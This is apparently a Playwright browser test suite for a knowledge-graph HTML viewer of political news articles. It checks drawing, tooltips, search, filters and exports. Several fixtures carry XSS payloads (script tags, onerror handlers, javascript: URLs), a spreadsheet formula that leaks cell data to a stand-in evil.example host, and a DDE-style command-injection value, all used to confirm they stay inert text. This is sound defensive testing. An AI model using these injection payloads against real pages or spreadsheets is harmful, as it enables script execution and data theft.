"""The HTML view in a real headless Chromium (Debian's chromium, driven by Playwright).

Each page is opened from disk; the tests wait for vis-network's first draw, then check what a reader
gets: every node and edge drawn, tooltips with the facts' sources, no errors, no network requests,
and nothing run from an article's text, neither when the page opens nor when a tooltip shows.
Exploring (issue 12): search, the details panel, the type / date / status filters, a first view that
fills the window, CSV and PNG export, and markup or spreadsheet formulas in the data staying text.
Screenshots are saved under test-artifacts/ for a person to look at.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import random
import shutil
from collections.abc import Iterator
from pathlib import Path

import networkx as nx
import pytest

from kg.ingest import ingest
from kg.netview import ViewFilter, beyond
from kg.store import open_store
from kg.viz import PHYSICS_LIMIT, render_html, write_view
from tests.conftest import ROOT

CHROMIUM = shutil.which("chromium") or ("/usr/bin/chromium" if Path("/usr/bin/chromium").exists() else None)
ARTIFACTS = ROOT / "test-artifacts"
pytestmark = [pytest.mark.browser, pytest.mark.skipif(CHROMIUM is None, reason="needs Debian chromium (apt-get install chromium)")]

EVIL_ARTICLE = """date 2017-03-01
<b onmouseover="window.__pwned='title'">Labour</b> news <script>window.__pwned='title-script'</script> from Copeland

Labour leader Jeremy Corbyn <script>window.__pwned=1</script> visited Copeland on Monday.

Conservative MP Will Quince <img src=x onerror="window.__pwned=2"> said the party would \
<a href="javascript:window.__pwned=3" onmouseover="window.__pwned=4">win</a> the seat.

The Copeland by-election was triggered by the resignation of Labour MP Jamie Reed <svg onload="window.__pwned=5"></svg>.
"""


class Page:
    """A page opened from disk, with everything that would show a problem recorded."""

    def __init__(self, browser, path: Path, size: tuple[int, int] = (1400, 900)) -> None:  # type: ignore[no-untyped-def]
        self.errors: list[str] = []
        self.requests: list[str] = []
        self.dialogs: list[str] = []
        self.page = browser.new_page(viewport={"width": size[0], "height": size[1]})
        self.page.on("console", lambda m: m.type == "error" and self.errors.append(m.text))
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.page.on("request", lambda r: r.url != path.as_uri() and self.requests.append(r.url))
        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        self.page.goto(path.as_uri())
        self.page.wait_for_function("window.kgFirstDraw > 0 && window.kgFitted", timeout=60_000)
        self.page.evaluate("network.stopSimulation()")  # so positions stay where the hover goes

    def eval(self, script: str):  # type: ignore[no-untyped-def]
        return self.page.evaluate(script)

    def hover_at(self, canvas_xy: dict[str, float]) -> str:
        """Move the mouse to a canvas point; return the tooltip's text ('' when none shows)."""
        dom = self.eval(f"network.canvasToDOM({json.dumps(canvas_xy)})")
        box = self.page.locator("#mynetwork canvas").bounding_box()
        self.page.mouse.move(1, 1)
        self.page.mouse.move(box["x"] + dom["x"], box["y"] + dom["y"], steps=3)
        try:
            self.page.wait_for_function("(() => { const t = document.querySelector('div.vis-tooltip');"
                                        " return t && t.style.visibility !== 'hidden' && t.innerText.length > 0; })()",
                                        timeout=3_000)
        except Exception:
            return ""
        return str(self.eval("document.querySelector('div.vis-tooltip').innerText"))

    def hover_node(self, node: str) -> str:
        self.eval(f"network.moveTo({{position: network.getPositions([{json.dumps(node)}])[{json.dumps(node)}], scale: 1.2}})")
        return self.hover_at(self.eval(f"network.getPositions([{json.dumps(node)}])[{json.dumps(node)}]"))

    def hover_edge(self, edge_id: str) -> str:
        point = self.eval(f"network.body.edges[{json.dumps(edge_id)}].edgeType.getPoint(0.5)")
        self.eval(f"network.moveTo({{position: {json.dumps(point)}, scale: 1.2}})")
        return self.hover_at(self.eval(f"network.body.edges[{json.dumps(edge_id)}].edgeType.getPoint(0.5)"))


@pytest.fixture(scope="module")
def browser() -> Iterator[object]:
    playwright = pytest.importorskip("playwright.sync_api", reason="needs the playwright package")
    with playwright.sync_playwright() as p:
        launched = p.chromium.launch(executable_path=CHROMIUM,
                                     args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"])
        yield launched
        launched.close()


def _drawn_counts(page: Page) -> tuple[int, int]:
    return page.eval("network.body.data.nodes.length"), page.eval("network.body.data.edges.length")


@pytest.mark.slow
def test_seed_graph_draws_every_node_with_tooltips_and_screenshot(browser, seed_store, tmp_path):
    out = tmp_path / "seed.html"
    view = write_view(seed_store, out, store_label="seed store")
    page = Page(browser, out)
    assert _drawn_counts(page) == (view.graph.number_of_nodes(), view.graph.number_of_edges())
    # small: the simulation laid it out (it stabilised), then stopped so the fitted view holds still
    assert page.eval("network.physics.stabilized") is True and page.eval("network.physics.options.enabled") is False
    heading = page.eval("document.getElementById('kg-heading').textContent")
    assert heading.startswith("kg: ") and heading.endswith("store: seed store")
    assert f"{view.graph.number_of_nodes()} entities, {view.graph.number_of_edges()} relations" in heading
    assert "published 2017-02-24" in heading
    legend = page.eval("document.getElementById('legend').innerText")
    assert all(kind in legend for kind in ("person", "party", "election", "seat"))
    ARTIFACTS.mkdir(exist_ok=True)
    page.page.screenshot(path=str(ARTIFACTS / "seed-graph.png"))

    corbyn = next(n for n, d in view.graph.nodes(data=True) if d["label"] == "Jeremy Corbyn")
    tip = page.hover_node(corbyn)
    assert tip.startswith("Jeremy Corbyn") and "type: person" in tip and "roles: leader" in tip
    assert "2017-02-24" in tip and "copeland-2017-independent.txt" in tip
    assert "Labour voters opted for the Tories in Copeland" in tip  # an evidence sentence
    page.page.screenshot(path=str(ARTIFACTS / "seed-graph-tooltip.png"))
    edge = page.eval("network.body.data.edges.get().find(e => e.label === 'won' && e.from.endsWith('trudy-harrison')).id")
    edge_tip = page.hover_edge(edge)
    assert "Trudy Harrison \u2192 won \u2192 2017 Copeland by-election" in edge_tip
    assert not page.errors and not page.requests and not page.dialogs
    page.page.close()


@pytest.mark.slow
def test_focus_view_draws_the_neighbourhood(browser, seed_store, tmp_path):
    out = tmp_path / "focus.html"
    view = write_view(seed_store, out, ViewFilter(focus="jeremy corbyn", depth=1), store_label="s")
    page = Page(browser, out)
    assert _drawn_counts(page) == (view.graph.number_of_nodes(), view.graph.number_of_edges())
    labels = set(page.eval("network.body.data.nodes.get().map(n => n.label)"))
    assert labels == {d["label"] for _, d in view.graph.nodes(data=True)} and "Jeremy Corbyn" in labels
    assert "around Jeremy Corbyn (depth 1)" in page.eval("document.getElementById('kg-heading').textContent")
    assert not page.errors and not page.requests
    page.page.close()


@pytest.mark.slow
def test_double_click_adds_the_neighbours_a_focused_view_left_out(browser, seed_store, tmp_path):
    out = tmp_path / "focus.html"
    view = write_view(seed_store, out, ViewFilter(focus="Trudy Harrison", depth=1), store_label="s")
    assert view.beyond is not None and view.beyond.shipped == view.beyond.total > 0  # one hop more, all of it
    page = Page(browser, out)
    assert _drawn_counts(page) == (view.graph.number_of_nodes(), view.graph.number_of_edges())
    labels = lambda: set(page.eval("network.body.data.nodes.get().map(n => n.label)"))  # noqa: E731
    assert "2017 Copeland by-election" in labels() and "Copeland" not in labels()  # the seat is two hops away
    hint = page.eval("document.getElementById('kg-more').textContent")
    assert hint == f"double-click an entity to add its neighbours ({view.beyond.shipped} more in this file)"
    election = _in_view(page, "2017 Copeland by-election")
    box = page.page.locator("#mynetwork canvas").bounding_box()
    xy = _dom_xy(page, election)
    page.page.mouse.dblclick(box["x"] + xy["x"], box["y"] + xy["y"])
    page.page.wait_for_function("network.body.data.nodes.get().some(n => n.label === 'Copeland')")
    assert {"Copeland", "Jamie Reed"} <= labels()
    assert "2017 Copeland by-election \u2192 for seat \u2192 Copeland" in page.eval("document.getElementById('kg-panel').innerText")
    seat = _node_id(page, "Copeland")
    assert page.eval(f"network.body.data.edges.get().filter(e => e.to === {json.dumps(seat)}).map(e => [e.from, e.label])") == [
        [election, "for seat"]]
    assert page.eval(f"network.getConnectedNodes({json.dumps(seat)})") == [election]  # drawn, with its edge
    assert page.eval(f"network.body.nodes[{json.dumps(seat)}].options.hidden") is False
    assert "Copeland" in page.hover_node(seat) and "type: seat" in page.hover_node(seat)
    assert seat in page.eval("kg.search('copeland')")  # found by the search, listed in the legend's counts
    assert "seat (1)" in page.eval("document.getElementById('legend').innerText")
    # the added entities' own neighbours were not shipped (one hop only): expanding them adds nothing
    drawn = _drawn_counts(page)
    assert page.eval(f"kg.expand({json.dumps(_node_id(page, 'Jamie Reed'))})") == [] and _drawn_counts(page) == drawn
    assert page.eval(f"kg.expand({json.dumps(election)})") == []  # twice: nothing more
    # the filters apply to what was added
    page.page.locator("label.kg-key", has_text="seat").click()
    assert seat in _hidden(page)
    assert not page.errors and not page.requests and not page.dialogs
    ARTIFACTS.mkdir(exist_ok=True)
    page.page.screenshot(path=str(ARTIFACTS / "explore-expand.png"))
    page.page.close()


@pytest.mark.slow
def test_article_carrying_script_runs_nothing_on_open_or_hover(browser, tmp_path, article_file):
    source = article_file(EVIL_ARTICLE, "evil.txt")
    store = open_store(str(tmp_path / "store"), write=True)
    try:
        ingest([str(source)], store)
        out = tmp_path / "evil.html"
        view = write_view(store, out, store_label='<img src=x onerror="window.__pwned=9">')
    finally:
        store.close()
    evidence = " ".join(s for _, _, d in view.graph.edges(data=True) for _, s in d["evidence"])
    assert "<script>" in evidence and "onerror" in evidence and "javascript:" in evidence  # the payload is in the graph
    page = Page(browser, out)
    assert _drawn_counts(page) == (view.graph.number_of_nodes(), view.graph.number_of_edges())
    assert page.eval("window.__pwned") is None
    # the page holds no element or attribute the article could have brought in
    assert page.eval("document.querySelectorAll('img, svg:not(.kg-key svg), a, b, iframe, object').length") == 0
    assert page.eval("[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length") == 0
    assert page.eval("document.getElementById('kg-heading').textContent").endswith('store: <img src=x onerror="window.__pwned=9">')
    # every tooltip is an element of plain text lines (no attributes, no markup)
    assert page.eval("""[...network.body.data.nodes.get(), ...network.body.data.edges.get()].every(item =>
        item.title instanceof Element && [...item.title.querySelectorAll('*')].every(
            e => (e.tagName === 'DIV' || e.tagName === 'STRONG') && e.attributes.length === 0))""")
    shown = []
    for node in view.graph:
        shown.append(page.hover_node(node))
        page.page.mouse.move(1, 1)
    for edge_id in page.eval("network.body.data.edges.getIds()"):
        shown.append(page.hover_edge(edge_id))
    text = "\n".join(shown)
    assert "<script>window.__pwned=1</script>" in text and '<img src=x onerror="window.__pwned=2">' in text
    assert 'href="javascript:window.__pwned=3"' in text  # shown as text, exactly as the article has it
    assert page.eval("document.querySelectorAll('div.vis-tooltip *').length") > 0
    assert page.eval("document.querySelectorAll('div.vis-tooltip img, div.vis-tooltip a, div.vis-tooltip script').length") == 0
    assert page.eval("window.__pwned") is None
    assert not page.errors and not page.requests and not page.dialogs
    page.page.close()


def _big_graph(n: int) -> nx.MultiDiGraph:
    rnd = random.Random(4)
    g = nx.MultiDiGraph()
    for i in range(n):
        kind = "party" if i < 5 else "person"
        g.add_node(f"n{i}", label=f"{kind} {i}", type=kind, roles=set(), evidence={("a.txt", f"Sentence {i}.")}, articles=set())
    for i in range(5, n):
        g.add_edge(f"n{i}", f"n{rnd.randrange(5)}", key="member of (mp)", label="member of (mp)", evidence=set(), articles=set())
    return g


def test_big_graph_opens_with_physics_off_and_all_nodes(browser, tmp_path):
    graph = _big_graph(PHYSICS_LIMIT + 50)
    out = render_html(graph, tmp_path / "big.html", "big")
    page = Page(browser, out)
    assert page.eval("network.physics.options.enabled") is False
    assert _drawn_counts(page) == (graph.number_of_nodes(), graph.number_of_edges())
    assert "party 0" in page.hover_node("n0")
    assert not page.errors and not page.requests
    page.page.close()


def test_markup_in_every_field_stays_text(browser, tmp_path):
    """Labels, roles, titles, sources and relations all carrying markup (and "href"), drawn and hovered."""
    from kg.netgraph import ArticleInfo

    evil = '<img src=x onerror="window.__pwned=1"><a href="javascript:window.__pwned=2" onclick="window.__pwned=3">x</a>'
    g = nx.MultiDiGraph()
    g.graph["articles"] = {"a": ArticleInfo("a", "<script>window.__pwned=4</script>" + evil, "javascript:window.__pwned=5", None)}
    g.add_node("p", label="Ann <b>Lowe</b>" + evil, type="person", roles={evil}, articles={"a"}, evidence={(evil, evil)})
    g.add_node("q", label="</script><script>window.__pwned=6</script>", type="party", roles=set(), articles={"a"}, evidence=set())
    g.add_edge("p", "q", key=evil, label=evil, articles={"a"}, evidence={("s", "<svg onload=window.__pwned=7>")})
    # one hop past the drawing, added by a double-click: as evil, and it must stay text too
    g.add_node("r", label="<img src=x onerror=window.__pwned=9>", type="seat", roles={evil}, articles={"a"}, evidence={(evil, evil)})
    g.add_edge("r", "q", key=evil, label=evil, articles={"a"}, evidence={(evil, "<svg onload=window.__pwned=10>")},
               proofs={("a", evil, evil)})
    drawn = nx.MultiDiGraph(g.subgraph(["p", "q"]))
    out = render_html(drawn, tmp_path / "evil.html", heading="</h1><script>window.__pwned=8</script>" + evil, more=beyond(g, drawn))
    page = Page(browser, out)
    assert _drawn_counts(page) == (2, 1)
    tips = [page.hover_node("p"), page.hover_node("q"), page.hover_edge("e0")]
    assert all(tips) and evil in tips[0] and "<svg onload=window.__pwned=7>" in tips[2]
    assert page.eval("kg.expand('q')") == ["r"] and _drawn_counts(page) == (3, 2)
    tips = [page.hover_node("r"), page.hover_edge("x0")]
    assert tips[0].startswith("<img src=x onerror=window.__pwned=9>") and "<svg onload=window.__pwned=10>" in tips[1]
    page.eval("kg.select('r', true)")
    assert evil in page.eval("document.getElementById('kg-panel').innerText")
    assert page.eval("document.getElementById('kg-heading').textContent").startswith("</h1><script>")
    assert page.eval("document.querySelectorAll('img, a, iframe').length") == 0
    assert page.eval("window.__pwned") is None
    assert not page.errors and not page.requests and not page.dialogs
    page.page.close()


# ---- exploring: search, panel, filters, first view, export (issue 12) --------------------------------
def _node_id(page: Page, label: str) -> str:
    return str(page.eval(f"Object.keys(kg.data.nodes).find(id => kg.data.nodes[id].l === {json.dumps(label)})"))


def _dom_xy(page: Page, node: str) -> dict[str, float]:
    return page.eval(f"network.canvasToDOM(network.getPositions([{json.dumps(node)}])[{json.dumps(node)}])")  # type: ignore[no-any-return]


def _click_node(page: Page, node: str) -> None:
    box = page.page.locator("#mynetwork canvas").bounding_box()
    xy = _dom_xy(page, node)
    page.page.mouse.click(box["x"] + xy["x"], box["y"] + xy["y"])


def _in_view(page: Page, label: str) -> str:
    """The node of that label, moved to the middle of the canvas (left of the panel), ready to click."""
    node = _node_id(page, label)
    page.eval(f"network.focus({json.dumps(node)}, {{scale: 1, animation: false}})")
    return node


def _dimmed(page: Page) -> set[str]:
    """The drawn nodes outside the highlighted neighbourhood (none when nothing is highlighted)."""
    near = page.eval("kg.near()")
    return set() if near is None else set(page.eval("network.body.data.nodes.getIds()")) - set(near)


def _hidden(page: Page, what: str = "nodes") -> set[str]:
    return set(page.eval(f"network.body.data.{what}.get().filter(n => n.hidden).map(n => n.id)"))


@pytest.mark.slow
def test_search_selects_centres_and_highlights_the_neighbourhood(browser, seed_store, tmp_path):
    out = tmp_path / "seed.html"
    view = write_view(seed_store, out, store_label="seed store")
    page = Page(browser, out)
    corbyn = _node_id(page, "Jeremy Corbyn")
    page.page.locator("#kg-search").press_sequentially("JÉRÉMY cor")  # accents and case folded
    assert page.eval("[...document.querySelectorAll('#kg-results li')].map(li => li.firstChild.textContent)") == ["Jeremy Corbyn"]
    page.page.wait_for_function("kg.selected !== null")  # the view follows the list on the next frame
    assert page.eval("network.getSelectedNodes()") == [corbyn] and page.eval("kg.selected") == corbyn
    canvas = page.page.locator("#mynetwork canvas").bounding_box()
    xy = _dom_xy(page, corbyn)
    assert abs(xy["x"] - canvas["width"] / 2) < 5 and abs(xy["y"] - canvas["height"] / 2) < 5  # centred
    near = {corbyn} | set(view.graph.successors(corbyn)) | set(view.graph.predecessors(corbyn))
    assert _dimmed(page) == set(view.graph) - near  # the rest dimmed
    assert page.eval("document.querySelector('#kg-panel h2').textContent") == "Jeremy Corbyn"
    ARTIFACTS.mkdir(exist_ok=True)
    page.page.screenshot(path=str(ARTIFACTS / "explore-search.png"))
    page.page.keyboard.press("Escape")
    assert page.eval("network.getSelectedNodes()") == [] and not _dimmed(page)
    assert page.eval("document.getElementById('kg-search').value") == "" and page.eval("document.getElementById('kg-results').hidden")
    page.page.locator("#kg-search").fill("harrison")
    page.page.locator("#kg-search").press("Enter")
    assert page.eval("network.getSelectedNodes()") == [_node_id(page, "Trudy Harrison")]
    assert page.eval("kg.search('no such name')") == []
    assert not page.errors and not page.requests and not page.dialogs
    page.page.close()


@pytest.mark.slow
def test_click_opens_a_panel_with_details_and_evidence_that_stays(browser, seed_store, tmp_path):
    out = tmp_path / "seed.html"
    write_view(seed_store, out, store_label="seed store")
    page = Page(browser, out)
    assert page.eval("document.getElementById('kg-panel').hidden")
    election = _node_id(page, "2017 Copeland by-election")
    _click_node(page, election)
    panel = page.eval("document.getElementById('kg-panel').innerText")
    assert not page.eval("document.getElementById('kg-panel').hidden")
    for line in ("type: election", "seat: Copeland", "winner: Trudy Harrison", "party: Conservative Party",
                 "trigger: resignation of Jamie Reed"):
        assert line in panel
    assert "The Copeland by-election was triggered by the resignation of Jamie Reed" in panel  # evidence sentence
    assert "2017-02-24 \u00b7 Labour voters opted for the Tories in Copeland" in panel  # its article: date, title
    assert "data/articles/copeland-2017-independent.txt" in panel and "rule: " in panel  # source and rule
    ARTIFACTS.mkdir(exist_ok=True)
    page.page.screenshot(path=str(ARTIFACTS / "explore-panel.png"))
    page.page.mouse.move(5, 300)  # the mouse leaves: the panel stays, its text can be selected and copied
    page.page.wait_for_timeout(300)
    assert not page.eval("document.getElementById('kg-panel').hidden")
    page.page.get_by_role("button", name="Jamie Reed").first.click()  # a related entity opens in the panel
    assert page.eval("document.querySelector('#kg-panel h2').textContent") == "Jamie Reed"
    assert "resignation triggered" in page.eval("document.getElementById('kg-panel').innerText")
    _click_node(page, _in_view(page, "Labour Party"))
    link = page.eval("(() => { const a = document.querySelector('#kg-panel a'); return [a.href, a.rel, a.target, a.textContent]; })()")
    assert link == ["https://www.wikidata.org/wiki/Q9630", "noopener noreferrer", "_blank", "Q9630"]
    _click_node(page, _in_view(page, "Tristram Hunt"))
    assert "role: mp, Labour Party (former)" in page.eval("document.getElementById('kg-panel').innerText")
    assert "former member of (mp)" in page.eval("network.body.data.edges.get().map(e => e.label)")
    page.page.click("#kg-close")
    assert page.eval("document.getElementById('kg-panel').hidden")
    assert not page.errors and not page.requests and not page.dialogs
    page.page.close()


@pytest.mark.slow
def test_first_view_fills_the_window_with_hub_labels_readable(browser, seed_store, tmp_path):
    out = tmp_path / "seed.html"
    write_view(seed_store, out, store_label="seed store")
    page = Page(browser, out, (1024, 640))  # the first view, at a laptop's window size
    for width, height in ((1024, 640), (1400, 900), (800, 900)):
        if (width, height) != (1024, 640):  # then resized: the resize handler fits again
            fits = page.eval("kg.fits")
            page.page.set_viewport_size({"width": width, "height": height})
            page.page.wait_for_function(f"kg.fits > {fits}")
        canvas = page.page.locator("#mynetwork canvas").bounding_box()
        assert canvas["height"] > 0.82 * height and canvas["width"] == width
        box = page.eval("""(() => { const boxes = network.body.data.nodes.getIds().map(id => network.getBoundingBox(id));
            const lo = network.canvasToDOM({x: Math.min(...boxes.map(b => b.left)), y: Math.min(...boxes.map(b => b.top))});
            const hi = network.canvasToDOM({x: Math.max(...boxes.map(b => b.right)), y: Math.max(...boxes.map(b => b.bottom))});
            return [lo.x, hi.x, lo.y, hi.y];  // what is drawn: every node with its label
        })()""")
        assert box[0] >= -1 and box[1] <= canvas["width"] + 1 and box[2] >= -1 and box[3] <= canvas["height"] + 1  # all in view
        wide, high = (box[1] - box[0]) / canvas["width"], (box[3] - box[2]) / canvas["height"]
        if (width, height) == (1024, 640):  # the first view: most of the window both ways
            assert wide > 0.75 and high > 0.75, box
        else:  # after a resize: fitted one way, and stretched (its shape changed at most 2.5 times) the other
            assert max(wide, high) > 0.85 and min(wide, high) > 0.6, (width, height, box)
        if (width, height) == (1024, 640):
            ARTIFACTS.mkdir(exist_ok=True)
            page.page.screenshot(path=str(ARTIFACTS / "explore-first-view-1024x640.png"))
    # the most connected entities' labels are drawn at a readable size at the first zoom
    fits = page.eval("kg.fits")
    page.page.set_viewport_size({"width": 1024, "height": 640})
    page.page.wait_for_function(f"kg.fits > {fits}")
    sizes = page.eval("""(() => { const s = network.getScale();
        return ['Labour Party', 'Conservative Party'].map(l => network.body.data.nodes.get().find(n => n.label === l))
            .map(n => (n.font && n.font.size || 16) * s); })()""")
    assert all(size >= 13 for size in sizes), sizes
    assert not page.errors and not page.requests
    page.page.close()


def _dated_graph() -> nx.MultiDiGraph:
    """Two articles a year apart; a current and a former role; a party, a person with an accent."""
    from kg.netgraph import ArticleInfo

    g = nx.MultiDiGraph()
    g.graph["articles"] = {"a1": ArticleInfo("a1", "Old news", "old.txt", dt.date(2016, 5, 1)),
                           "a2": ArticleInfo("a2", "New news", "new.txt", dt.date(2017, 5, 1))}
    g.add_node("p1", label="Ségolène Royal", type="person", roles={"mp"}, articles={"a1"}, evidence={("old.txt", "S1.")})
    g.add_node("p2", label="Ann Lowe", type="person", roles={"mp"}, articles={"a2"}, evidence={("new.txt", "S2.")})
    g.add_node("q", label="Labour Party", type="party", roles=set(), articles={"a1", "a2"}, evidence=set())
    g.add_node("e", label="2017 Leigh by-election", type="election", roles=set(), articles={"a2"}, evidence=set())
    g.add_edge("p1", "q", key="member of (mp)", label="member of (mp)", articles={"a1"}, status={"former"},
               evidence={("old.txt", "Royal was a Labour MP.")}, proofs={("a1", "Royal was a Labour MP.", "roles.copula")})
    g.add_edge("p2", "q", key="member of (mp)", label="member of (mp)", articles={"a2"}, status={"current"},
               evidence={("new.txt", "Lowe is a Labour MP.")}, proofs={("a2", "Lowe is a Labour MP.", "roles.copula")})
    g.add_edge("p2", "e", key="won", label="won", articles={"a2"}, evidence={("new.txt", "Lowe won Leigh.")},
               proofs={("a2", "Lowe won Leigh.", "results.won-verb")})
    return g


def test_type_date_and_status_filters_hide_what_they_say(browser, tmp_path):
    out = render_html(_dated_graph(), tmp_path / "dated.html", "dated")
    page = Page(browser, out)
    assert page.eval("kg.search('segolene')") == ["p1"] and page.eval("kg.search('SÉGO')") == ["p1"]
    page.page.locator("label.kg-key", has_text="party").click()  # the legend's type switch
    assert _hidden(page) == {"q"} and _hidden(page, "edges") == {"e0", "e1"}
    ARTIFACTS.mkdir(exist_ok=True)
    page.page.screenshot(path=str(ARTIFACTS / "explore-type-filter.png"))
    page.page.locator("label.kg-key", has_text="party").click()
    assert not _hidden(page) and not _hidden(page, "edges")
    dates = page.eval("[document.getElementById('kg-since').value, document.getElementById('kg-until').value]")
    assert dates == ["2016-05-01", "2017-05-01"]  # the articles' publication dates
    page.page.fill("#kg-until", "2016-12-31")  # only the old article's facts
    assert _hidden(page) == {"p2", "e"} and _hidden(page, "edges") == {"e1", "e2"}
    page.page.fill("#kg-until", "2017-05-01")
    page.page.fill("#kg-since", "2017-01-01")  # only the new article's
    assert _hidden(page) == {"p1"} and _hidden(page, "edges") == {"e0"}
    assert [row.split(",")[0] for row in page.eval("kg.csv()").split("\r\n")[1:-1]] == ['"Ann Lowe"', '"Ann Lowe"']
    page.page.fill("#kg-since", "2016-05-01")
    page.page.uncheck("#kg-former")  # former roles hidden: Royal's only fact goes, and she with it
    assert _hidden(page) == {"p1"} and _hidden(page, "edges") == {"e0"}
    page.page.check("#kg-former")
    page.page.uncheck("#kg-current")
    assert _hidden(page, "edges") == {"e1"} and not _hidden(page)
    page.page.check("#kg-current")
    assert page.eval("network.body.data.edges.get('e0').label") == "former member of (mp)"
    assert not page.errors and not page.requests and not page.dialogs
    page.page.close()


def test_csv_and_png_export(browser, tmp_path):
    out = render_html(_dated_graph(), tmp_path / "dated.html", "dated")
    page = Page(browser, out)
    with page.page.expect_download() as info:
        page.page.click("#kg-csv")
    download = info.value
    assert download.suggested_filename == "kg-facts.csv"
    rows = list(csv.reader(io.StringIO(Path(download.path()).read_text(encoding="utf-8-sig"), newline="")))
    assert rows[0] == ["subject", "relation", "object", "status", "published", "article", "source", "sentence", "rules"]
    assert ["Ségolène Royal", "former member of (mp)", "Labour Party", "former", "2016-05-01", "Old news", "old.txt",
            "Royal was a Labour MP.", "roles.copula"] in rows
    assert len(rows) == 4
    page.eval("kg.select('p2', true)")
    with page.page.expect_download() as info:
        page.page.click("#kg-png")
    assert info.value.suggested_filename == "kg-view.png"
    assert Path(info.value.path()).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert not page.errors and not page.dialogs
    page.page.close()


def test_markup_and_formulas_stay_text_in_search_panel_and_csv(browser, tmp_path):
    """A name carrying <script> or =HYPERLINK(...) is found as text, shown as text and exported as text."""
    from kg.netgraph import ArticleInfo

    script = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    g = nx.MultiDiGraph()
    g.graph["articles"] = {"a": ArticleInfo("a", "+cmd|' /C calc'!A0", "@evil.txt", dt.date(2017, 1, 1))}
    g.add_node("p", label="Ann " + script, type="person", roles=set(), articles={"a"}, evidence=set())
    g.add_node("q", label=formula, type="party", roles=set(), articles={"a"}, evidence=set(),
               wikidata='javascript:window.__pwned=3')  # not a Q-id: no link
    g.add_edge("p", "q", key="member of (mp)", label="member of (mp)", articles={"a"}, status={"current"},
               evidence={("@evil.txt", "-2+3 " + script)}, proofs={("a", "-2+3 " + script, "=rule()")})
    out = render_html(g, tmp_path / "evil.html", "evil")
    page = Page(browser, out)
    scripts = page.eval("document.scripts.length")
    page.page.locator("#kg-search").press_sequentially("<script>")
    assert page.eval("document.querySelector('#kg-results li').firstChild.textContent") == "Ann " + script
    page.page.wait_for_function("kg.selected === 'p'")
    assert page.eval("kg.selected") == "p"
    panel = page.eval("document.getElementById('kg-panel').innerText")
    assert "Ann " + script in panel and formula in panel and "-2+3 " + script in panel and "rule: =rule()" in panel
    page.page.keyboard.press("Escape")
    page.page.locator("#kg-search").fill("=hyperlink")
    page.page.wait_for_function("kg.selected === 'q'")
    panel = page.eval("document.getElementById('kg-panel').innerText")
    assert "Wikidata" not in panel
    assert page.eval("document.scripts.length") == scripts  # no script element added anywhere
    assert page.eval("document.querySelectorAll('#kg-panel *, #kg-results *').length") > 0
    assert page.eval("document.querySelectorAll('img, a, iframe, object, #kg-panel script, #kg-results script').length") == 0
    assert page.eval("window.__pwned") is None
    rows = list(csv.reader(io.StringIO(page.eval("kg.csv()"), newline="")))
    assert rows[1] == ["Ann " + script, "member of (mp)", "'" + formula, "current", "2017-01-01", "'+cmd|' /C calc'!A0",
                       "'@evil.txt", "'-2+3 " + script, "'=rule()"]
    assert not page.errors and not page.requests and not page.dialogs
    page.page.close()
